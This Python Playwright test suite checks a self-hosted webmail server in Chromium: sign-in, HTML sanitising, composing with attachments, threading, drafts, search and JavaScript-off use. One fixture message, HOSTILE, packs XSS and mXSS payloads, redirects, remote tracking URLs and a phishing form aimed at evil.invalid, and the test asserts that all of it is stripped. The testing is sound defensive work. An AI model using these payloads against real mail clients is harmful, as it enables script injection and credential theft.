"""The webmail in a real browser: Playwright driving Debian's Chromium against a real server on 127.0.0.1."""

from __future__ import annotations

import email
import email.policy
import imaplib
import re
import smtplib
import time
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import expect, sync_playwright

from tests.harness import running_server

ALICE, BOB = "alice@example.test", "bob@example.test"
PW = "correct horse battery"
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "webmail"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]

PLAIN = (b"From: Bob Builder <bob@example.test>\r\nTo: Alice <alice@example.test>\r\nSubject: Plain hello\r\n"
         b"Date: Mon, 02 Mar 2026 10:00:00 +0000\r\nMessage-ID: <plain-1@example.test>\r\n"
         b"References: <root-0@example.test>\r\n\r\nHello Alice,\r\nsee https://example.org/page for details.\r\n")
HTML = (b"From: News <news@example.org>\r\nTo: alice@example.test\r\nSubject: Pretty newsletter\r\n"
        b"Message-ID: <html-1@example.org>\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/related; boundary=rel\r\n\r\n--rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        b"<html><head><style>.big{color:#c00;font-size:20px}</style></head><body><p class=big id=hello>Big red "
        b"news</p><img id=logo src=\"cid:logo@x\" alt=logo><img id=tracker src=\"http://tracker.invalid/p.gif\">"
        b"</body></html>\r\n--rel\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==\r\n"
        b"--rel--\r\n")
HOSTILE = (b"From: Mallory <mallory@evil.invalid>\r\nTo: alice@example.test\r\nSubject: Hostile\r\n"
           b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
           b"<meta http-equiv=refresh content=\"0;url=http://evil.invalid/refresh\">"
           b"<script>window.top.pwned=1;alert('script')</script>"
           b"<img src=x onerror=\"alert('onerror')\">"
           b"<a id=jslink href=\"javascript:alert('js')\">click</a>"
           b"<svg><script>alert('svg')</script><image href=\"http://evil.invalid/svg.png\"/></svg>"
           b"<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>"
           b"<div style=\"background:url(http://evil.invalid/css.png)\">css</div>"
           b"<style>@import url(http://evil.invalid/import.css); body{background:url(http://evil.invalid/bg.png)}</style>"
           b"<form action=\"http://evil.invalid/phish\"><input name=pw><button>go</button></form>"
           b"<iframe src=\"http://evil.invalid/frame\"></iframe><object data=\"http://evil.invalid/o\"></object>"
           b"<link rel=stylesheet href=\"http://evil.invalid/link.css\"><base href=\"http://evil.invalid/\">"
           b"<img src=\"//evil.invalid/protocol-relative.png\"><p id=survivor>still readable</p>\r\n")


def _shot(page, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def _login(page, base: str, user: str = ALICE) -> None:
    page.goto(base + "/login")
    page.fill("input[name=username]", user)
    page.fill("input[name=password]", PW)
    page.click("button[type=submit]")
    page.wait_for_url(re.compile(r"/m/\d+"))


def test_webmail_in_chromium(tmp_path):
    """Sign in, read plain/HTML/hostile mail, compose with attachments, reply, forward, drafts, move/delete/flag,
    search, a live delivery, settings, sign-out: all in Chromium, with screenshots of the main views."""
    with running_server(tmp_path, listeners=("https", "smtp", "imap")) as srv:
        alice = srv.add_user(ALICE, PW, display_name="Alice Example")
        srv.add_user(BOB, PW)
        srv.deliver(ALICE, HTML)
        srv.deliver(ALICE, HOSTILE)
        srv.deliver(ALICE, PLAIN)
        inbox = srv.store.get_mailbox(alice.id, "INBOX")
        base = f"https://127.0.0.1:{srv.port('https')}"
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
            context = browser.new_context(ignore_https_errors=True, viewport={"width": 1280, "height": 860})
            outside: list[str] = []
            dialogs: list[str] = []

            def on_request(req):
                host = urlsplit(req.url).hostname or ""
                if req.url.startswith(("http", "ws")) and host != "127.0.0.1":
                    outside.append(req.url)

            context.on("request", on_request)
            context.route(re.compile(r"^(?!https://127\.0\.0\.1).*"), lambda route: route.abort())
            page = context.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))

            # --- sign in and the list
            page.goto(base + "/")
            expect(page).to_have_url(re.compile(r"/login"))
            _shot(page, "01-login")
            _login(page, base)
            rows = page.locator("#message-list tr.msg")
            expect(rows).to_have_count(3)
            expect(rows.first).to_contain_text("Plain hello")
            expect(page.locator("#message-list tr.unread")).to_have_count(3)
            _shot(page, "02-inbox")

            # --- a plain message: text with a clickable link
            page.click("text=Plain hello")
            expect(page.locator("#subject")).to_have_text("Plain hello")
            link = page.locator("pre.textbody a")
            expect(link).to_have_attribute("href", "https://example.org/page")
            expect(link).to_have_attribute("rel", "noopener noreferrer")
            _shot(page, "03-read-plain")

            # --- an HTML message: sanitised, CSS inlined, cid image shown, remote image blocked
            page.goto(base + f"/m/{inbox.id}/1")
            frame = page.frame_locator("iframe.htmlbody")
            expect(frame.locator("#hello")).to_have_text("Big red news")
            color = frame.locator("#hello").evaluate("e => getComputedStyle(e).color")
            assert color == "rgb(204, 0, 0)"
            expect(frame.locator("#logo")).to_have_attribute("src", re.compile(r"^/m/\d+/1/cid/logo%40x$"))
            assert frame.locator("#logo").evaluate("e => e.complete && e.naturalWidth") == 1
            assert frame.locator("#tracker").get_attribute("src") is None
            expect(page.locator("#remote-notice")).to_be_visible()
            _shot(page, "04-read-html")
            assert not outside, outside

            # --- hostile HTML: nothing runs, nothing remote loads, the text is still there
            page.goto(base + f"/m/{inbox.id}/2")
            frame = page.frame_locator("iframe.htmlbody")
            expect(frame.locator("#survivor")).to_have_text("still readable")
            page.wait_for_timeout(700)
            inner = page.frame_locator("iframe.htmlbody").locator("body").inner_html()
            for bad in ("<script", "onerror", "javascript:", "<svg", "<math", "<form", "<iframe", "<object",
                        "<meta", "<link", "<base", "url(", "evil.invalid"):
                assert bad not in inner.lower(), bad
            assert page.evaluate("() => window.pwned") is None
            assert dialogs == [] and outside == [], (dialogs, outside)
            assert page.url.startswith(base + f"/m/{inbox.id}/2")
            _shot(page, "05-read-hostile")

            # --- compose with two attachments to ourselves and Bob
            att1 = tmp_path / "Übersicht März.txt"
            att1.write_bytes("Zeile 1\nGrüße\n".encode("utf-8"))
            att2 = tmp_path / "data.bin"
            att2.write_bytes(bytes(range(256)) * 40)
            page.goto(base + "/compose")
            page.fill("#to", f"Bob <{BOB}>, {ALICE}")
            page.fill("#subject", "Straße report")
            page.fill("#body", "Hello both,\nthe numbers are attached.\n")
            page.set_input_files("#attach", [str(att1), str(att2)])
            _shot(page, "06-compose")
            page.click("#send")
            page.wait_for_url(re.compile(r"notice=sent"))
            sent = srv.store.get_mailbox(alice.id, "Sent")
            assert sent.message_count == 1
            # Read back over IMAP, byte-correct (what Bob's mail program sees).
            with imaplib.IMAP4("127.0.0.1", srv.port("imap")) as im:
                im.login(BOB, PW)
                im.select("INBOX", readonly=True)
                typ, data = im.uid("FETCH", "1", "(RFC822.SIZE BODY.PEEK[])")
                assert typ == "OK"
                raw = data[0][1]
                assert f"RFC822.SIZE {len(raw)}".encode() in data[0][0]
            bob = srv.store.get_account(BOB)
            bob_inbox = srv.store.get_mailbox(bob.id, "INBOX")
            assert raw == srv.store.blobs.read(srv.store.get_messages(bob_inbox.id, [1])[0].blob_id)
            msg = email.message_from_bytes(raw, policy=email.policy.default)
            assert msg["Subject"] == "Straße report"
            assert msg["From"].addresses[0].addr_spec == ALICE
            assert "Bcc" not in msg
            files = {part.get_filename(): part.get_payload(decode=True) for part in msg.iter_attachments()}
            assert files["Übersicht März.txt"] == "Zeile 1\nGrüße\n".encode("utf-8")
            assert files["data.bin"] == bytes(range(256)) * 40
            assert b"\r\n" in raw and b"\n" not in raw.replace(b"\r\n", b"")

            # --- the new message arrived live in Alice's inbox (delivered while the list is open)
            page.goto(base + f"/m/{inbox.id}")
            expect(page.locator("#message-list tr.msg")).to_have_count(4)
            page.wait_for_timeout(500)
            with smtplib.SMTP("127.0.0.1", srv.port("smtp")) as mx:  # a real SMTP delivery from outside
                mx.sendmail("live@example.org", [ALICE],
                            b"From: Live <live@example.org>\r\nTo: alice@example.test\r\nSubject: Live one\r\n"
                            b"Message-ID: <live-1@example.org>\r\n\r\nlive\r\n")
            expect(page.locator("#message-list tr.msg").first).to_contain_text("Live one", timeout=10000)
            expect(page.locator(f'#folders a[data-mailbox="{inbox.id}"] .count')).to_have_text("2")
            _shot(page, "07-live")

            # --- reply: threading headers and quoting
            page.goto(base + f"/m/{inbox.id}/3")
            page.click("#reply")
            expect(page.locator("#to")).to_have_value(re.compile(re.escape(BOB)))
            expect(page.locator("#subject")).to_have_value("Re: Plain hello")
            assert "> Hello Alice," in page.locator("#body").input_value()
            page.click("#send")
            page.wait_for_url(re.compile(r"notice=sent"))
            reply = srv.store.get_messages(bob_inbox.id, [2])[0]
            assert reply.in_reply_to == "<plain-1@example.test>"
            assert reply.references == "<root-0@example.test> <plain-1@example.test>"
            from storage.models import FLAG_ANSWERED

            assert srv.store.get_messages(inbox.id, [3])[0].flags & FLAG_ANSWERED

            # --- forward inline keeps attachments; forward as attachment attaches the message byte-exact
            page.goto(base + f"/m/{inbox.id}/3")
            page.click("#forward")
            expect(page.locator("#subject")).to_have_value("Fwd: Plain hello")
            assert "Forwarded message" in page.locator("#body").input_value()
            page.goto(base + f"/m/{inbox.id}/3")
            page.click("#forward-att")
            page.fill("#to", BOB)
            page.click("#send")
            page.wait_for_url(re.compile(r"notice=sent"))
            fwd = srv.store.get_messages(bob_inbox.id, [3])[0]
            fraw = srv.store.blobs.read(fwd.blob_id)
            assert PLAIN in fraw and b"Content-Type: message/rfc822" in fraw

            # --- a draft is saved to Drafts and reopened
            page.goto(base + "/compose")
            page.fill("#to", BOB)
            page.fill("#subject", "Half-written")
            page.fill("#body", "to be continued")
            page.set_input_files("#attach", [str(att1)])
            page.click("#save-draft")
            expect(page.locator("#compose-notice")).to_have_text("Draft saved.")
            drafts = srv.store.get_mailbox(alice.id, "Drafts")
            assert drafts.message_count == 1
            page.goto(base + f"/m/{drafts.id}")
            page.click("text=Half-written")
            expect(page.locator("#subject")).to_have_value("Half-written")
            expect(page.locator("#body")).to_have_value("to be continued")
            expect(page.locator("input[name=keep]")).to_have_count(1)
            page.fill("#body", "finished now")
            page.click("#send")
            page.wait_for_url(re.compile(r"notice=sent"))
            assert srv.store.get_mailbox(alice.id, "Drafts").message_count == 0
            last = srv.store.get_messages(bob_inbox.id, [4])[0]
            lmsg = email.message_from_bytes(srv.store.blobs.read(last.blob_id), policy=email.policy.default)
            assert [a.get_filename() for a in lmsg.iter_attachments()] == ["Übersicht März.txt"]

            # --- flag, move, delete from the list
            page.goto(base + f"/m/{inbox.id}")
            page.locator("tr.msg", has_text="Plain hello").locator("input[name=uid]").check()
            page.click("button[value=flag]")
            expect(page.locator("tr.msg.flagged", has_text="Plain hello")).to_have_count(1)
            page.locator("tr.msg", has_text="Pretty newsletter").locator("input[name=uid]").check()
            archive = srv.store.get_mailbox(alice.id, "Archive")
            page.select_option("select[name=to]", str(archive.id))
            page.click("button[value=move]")
            expect(page.locator("tr.msg", has_text="Pretty newsletter")).to_have_count(0)
            assert srv.store.get_mailbox(alice.id, "Archive").message_count == 1
            page.locator("tr.msg", has_text="Hostile").locator("input[name=uid]").check()
            page.click("button[value=delete]")
            expect(page.locator("tr.msg", has_text="Hostile")).to_have_count(0)
            assert srv.store.get_mailbox(alice.id, "Trash").message_count == 1

            # --- search: subject within the folder, body across all folders
            page.fill("#search-box", "newsletter")
            page.press("#search-box", "Enter")
            expect(page.locator("#message-list tr.msg")).to_have_count(1)
            expect(page.locator("#message-list tr.msg")).to_contain_text("Archive")
            page.goto(base + "/search?q=numbers+are+attached&in=body&mb=all")
            expect(page.locator("#message-list tr.msg")).to_have_count(2)  # Alice's inbox copy and Sent
            _shot(page, "08-search")

            # --- folders, settings, set-up page
            page.goto(base + "/folders")
            page.fill("#new-folder", "Projects")
            page.click("#create-folder")
            expect(page.locator("#folders")).to_contain_text("Projects")
            _shot(page, "09-folders")
            page.goto(base + "/settings")
            _shot(page, "10-settings")
            page.goto(base + "/setup")
            _shot(page, "11-setup")
            page.set_viewport_size({"width": 390, "height": 800})
            page.goto(base + f"/m/{inbox.id}")
            _shot(page, "12-phone-inbox")

            # --- sign out ends the session
            page.click("#logout")
            expect(page).to_have_url(re.compile(r"/login"))
            page.goto(base + f"/m/{inbox.id}")
            expect(page).to_have_url(re.compile(r"/login"))
            assert outside == [] and dialogs == [], (outside, dialogs)
            browser.close()


def test_reading_and_sending_without_javascript(tmp_path):
    """With JavaScript off, sign-in, reading and sending still work."""
    with running_server(tmp_path, listeners=("https",)) as srv:
        alice = srv.add_user(ALICE, PW)
        srv.add_user(BOB, PW)
        srv.deliver(ALICE, PLAIN)
        base = f"https://127.0.0.1:{srv.port('https')}"
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
            context = browser.new_context(ignore_https_errors=True, java_script_enabled=False)
            page = context.new_page()
            _login(page, base)
            page.click("text=Plain hello")
            expect(page.locator("pre.textbody")).to_contain_text("Hello Alice")
            page.click("#reply")
            page.click("#send")
            page.wait_for_url(re.compile(r"notice=sent"))
            bob_inbox = srv.store.get_mailbox(srv.store.get_account(BOB).id, "INBOX")
            assert bob_inbox.message_count == 1
            assert srv.store.get_mailbox(alice.id, "Sent").message_count == 1
            browser.close()
    time.sleep(0)


ALTERNATIVE = (b"From: Shop <news@shop.example>\r\nTo: alice@example.test\r\nSubject: Spring sale\r\n"
               b"Message-ID: <alt-1@shop.example>\r\nMIME-Version: 1.0\r\n"
               b"Content-Type: multipart/alternative; boundary=alt\r\n\r\n"
               b"--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nEverything is cheaper.\r\n"
               b"--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
               b"<p id=sale>Everything is <b>cheaper</b>.</p>\r\n--alt--\r\n")
ALTERNATIVE_WITH_PDF = (b"From: Bob <bob@example.test>\r\nTo: alice@example.test\r\nSubject: Report attached\r\n"
                        b"Message-ID: <mix-1@example.test>\r\nMIME-Version: 1.0\r\n"
                        b"Content-Type: multipart/mixed; boundary=mix\r\n\r\n"
                        b"--mix\r\nContent-Type: multipart/alternative; boundary=alt\r\n\r\n"
                        b"--alt\r\nContent-Type: text/plain\r\n\r\nThe report.\r\n"
                        b"--alt\r\nContent-Type: text/html\r\n\r\n<p id=report>The <i>report</i>.</p>\r\n--alt--\r\n"
                        b"--mix\r\nContent-Type: application/pdf\r\n"
                        b"Content-Disposition: attachment; filename=report.pdf\r\n"
                        b"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--mix--\r\n")


def test_html_mail_shows_no_fake_attachment(tmp_path):
    """An HTML mail sent as multipart/alternative, delivered by SMTP, shows its HTML and no attachment list (the text
    version is not offered as "part-1 text/plain"); with a real attachment next to it, only that one is listed."""
    with running_server(tmp_path, listeners=("https", "smtp")) as srv:
        alice = srv.add_user(ALICE, PW)
        with smtplib.SMTP("127.0.0.1", srv.port("smtp")) as mx:
            mx.sendmail("news@shop.example", [ALICE], ALTERNATIVE)
            mx.sendmail("bob@example.test", [ALICE], ALTERNATIVE_WITH_PDF)
        inbox = srv.store.get_mailbox(alice.id, "INBOX")
        assert inbox.message_count == 2
        base = f"https://127.0.0.1:{srv.port('https')}"
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
            context = browser.new_context(ignore_https_errors=True)
            context.route(re.compile(r"^(?!https://127\.0\.0\.1).*"), lambda route: route.abort())
            page = context.new_page()
            _login(page, base)
            page.click("text=Spring sale")
            expect(page.locator("#subject")).to_have_text("Spring sale")
            expect(page.frame_locator("iframe.htmlbody").locator("#sale")).to_have_text("Everything is cheaper.")
            expect(page.locator("section.attachments")).to_have_count(0)
            expect(page.locator("a.attachment")).to_have_count(0)
            assert "part-1" not in page.content()
            _shot(page, "13-alternative-no-attachment")

            page.goto(base + f"/m/{inbox.id}")
            page.click("text=Report attached")
            expect(page.locator("#subject")).to_have_text("Report attached")
            expect(page.frame_locator("iframe.htmlbody").locator("#report")).to_have_text("The report.")
            expect(page.locator("section.attachments a.attachment")).to_have_count(1)
            expect(page.locator("section.attachments a.attachment")).to_have_text("report.pdf")
            expect(page.locator("section.attachments h2")).to_contain_text("1 attachment")
            browser.close()
